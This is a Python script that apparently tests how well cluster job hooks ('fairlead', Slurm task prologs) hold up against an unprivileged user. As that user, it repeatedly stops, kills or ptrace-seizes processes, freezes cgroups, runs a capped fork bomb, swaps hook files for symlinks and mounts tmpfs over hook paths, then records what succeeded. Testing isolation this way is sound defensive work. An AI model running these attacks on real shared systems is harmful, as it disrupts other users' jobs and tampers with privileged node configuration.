"""What a job's user does to the hooks: one attack, over and over until it is killed. Run as that user: attacker.py ATTACK FILE

It attacks what it can reach of all processes and names, also root's, and counts in FILE: "hits" of its own user's processes,
"hooks" among them that run a task prolog, and "roots" for what worked against root's.
"""

from __future__ import annotations

import ctypes
import os
import resource
import signal
import sys
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long] * 4
SEIZE, INTERRUPT = 0x4206, 0x4207
NAMES = ("/run/fairlead", "/etc/fairlead", "/etc/slurm", "/run/lab-hooks", "/dev/shm", "/local1", "/tmp")
COUNTS = {"hits": 0, "hooks": 0, "roots": 0}


def call(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")


def text(path: str) -> str:
    with open(path, encoding="latin-1") as file:
        return file.read()


def owner_of(pid: int) -> str:
    """The real user id."""
    return text(f"/proc/{pid}/status").partition("\nUid:\t")[2].split("\t")[0]


def processes(attack: Callable[[int], object]) -> None:
    """The attack on every process but this."""
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid == os.getpid():
            continue
        try:
            owner = owner_of(pid)
            words = text(f"/proc/{pid}/cmdline") if owner == str(os.getuid()) else ""
            attack(pid)
            if owner == "0":  # slurmd's child becomes the user's process between the two
                owner = owner_of(pid)
        except OSError:
            continue
        COUNTS["hits" if owner == str(os.getuid()) else "roots"] += 1
        COUNTS["hooks"] += "task-prolog" in words


def seize(pid: int) -> None:
    """Traced, and stopped in it, for as long as this process lives."""
    call(LIBC.ptrace(SEIZE, pid, 0, 0))
    LIBC.ptrace(INTERRUPT, pid, 0, 0)


def freeze() -> None:
    """Whatever group of processes takes the word."""
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        for name, word in (("freezer.state", "FROZEN"), ("cgroup.freeze", "1"), ("cgroup.procs", str(os.getpid()))):
            if name in names:
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write(word)
                    COUNTS["roots"] += 1
                except OSError:
                    continue


def fork_bomb() -> None:
    """As many processes as this user may have: 60."""
    resource.setrlimit(resource.RLIMIT_NPROC, (60, 60))
    try:
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        COUNTS["hits"] += 1
    except OSError:
        while COUNTS["hits"]:
            try:
                if os.waitpid(-1, os.WNOHANG)[0] == 0:
                    break
            except OSError:
                break
        time.sleep(0.05)


def rename() -> None:
    """Exchange what has a name where the hooks look; links in its place."""
    for top in NAMES:
        for folder, folders, files in os.walk(top):
            for name in (*folders, *files):
                path = f"{folder}/{name}"
                try:
                    mine = os.lstat(path).st_uid == os.getuid()
                    os.rename(path, f"{path}~")
                    os.symlink("/run/fairlead", path)
                    os.unlink(path)
                    os.rename(f"{path}~", path)
                    COUNTS["hits" if mine else "roots"] += 1
                except OSError:
                    continue


def mounts() -> None:
    """In a user and mount namespace of its own: empty file systems over what the hooks read, and a try in the node's."""
    if not COUNTS["hits"]:
        call(LIBC.unshare(0x10000000 | 0x00020000))
    for path in NAMES:
        call(LIBC.mount(b"x", path.encode(), b"tmpfs", 0, None))
        COUNTS["hits"] += 1
    time.sleep(0.2)


ATTACKS: dict[str, Callable[[], None]] = {
    "stop": lambda: processes(lambda pid: os.kill(pid, signal.SIGSTOP)),
    "kill": lambda: processes(lambda pid: os.kill(pid, signal.SIGKILL)),
    "term": lambda: processes(lambda pid: os.kill(pid, signal.SIGTERM)),
    "trace": lambda: processes(seize),
    "freeze": freeze,
    "fork bomb": fork_bomb,
    "rename": rename,
    "mounts": mounts,
}


def main() -> None:
    attack, told = ATTACKS[sys.argv[1]], sys.argv[2]
    end = time.monotonic() + 200
    file = os.open(told, os.O_WRONLY | os.O_CREAT, 0o644)  # before any mount hides it
    while time.monotonic() < end:
        try:
            attack()
        except OSError as error:
            os.pwrite(file, f"refused {error.errno} ".encode(), 200)
            time.sleep(0.05)
        os.pwrite(file, f"{os.getpid()} {COUNTS['hits']} {COUNTS['hooks']} {COUNTS['roots']} ".encode().ljust(100), 0)


if __name__ == "__main__":
    main()
